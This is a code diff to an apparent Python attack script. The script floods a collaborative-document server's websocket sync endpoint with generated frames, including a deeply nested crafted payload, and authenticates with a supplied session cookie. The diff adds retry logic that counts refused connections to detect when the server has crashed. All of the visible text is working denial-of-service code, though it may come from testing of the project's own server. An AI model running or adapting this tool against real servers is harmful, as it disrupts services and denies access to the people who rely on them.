@@ -12,6 +12,7 @@ from websockets.exceptions import ConnectionClosed, WebSocketException
 
 from realtime.protocol import STEP1, UPDATE, Cursor, awareness, sync, uint
 
+NOBODY = 100  # refused connections in a row, a twentieth of a second apart: the server is no more
 NESTED = b"\x01\x01\x01\x00\x08\x01\x01t\x01" + b"\x75\x01" * 30_000 + b"\x7e\x00"
 
 
@@ -68,7 +69,7 @@ def frames(count: int, seed: int):
 async def attack(origin: str, cookie: str, key: str, count: int, seed: int) -> int:
     """Send them all, each until the server has read it, connecting again when the door is shut; how often."""
     url = origin.replace("http", "ws", 1) + f"/ws/sync/document/{key}"
-    shut, pending = 0, frames(count, seed)
+    shut, refused, pending = 0, 0, frames(count, seed)
     frame = next(pending, None)
     tried = b""
     while frame is not None:
@@ -76,11 +77,17 @@ async def attack(origin: str, cookie: str, key: str, count: int, seed: int) -> i
             async with connect(
                 url, additional_headers={"Cookie": cookie}, origin=origin, max_size=None
             ) as socket:
+                refused = 0
                 while frame is not None:
                     tried = frame
                     await socket.send(frame)
                     await (await socket.ping())
                     frame = next(pending, None)
+        except ConnectionRefusedError:
+            refused += 1
+            if refused > NOBODY:
+                raise
+            await asyncio.sleep(0.05)
         except (ConnectionClosed, WebSocketException, OSError):
             shut += 1
             if frame is tried:
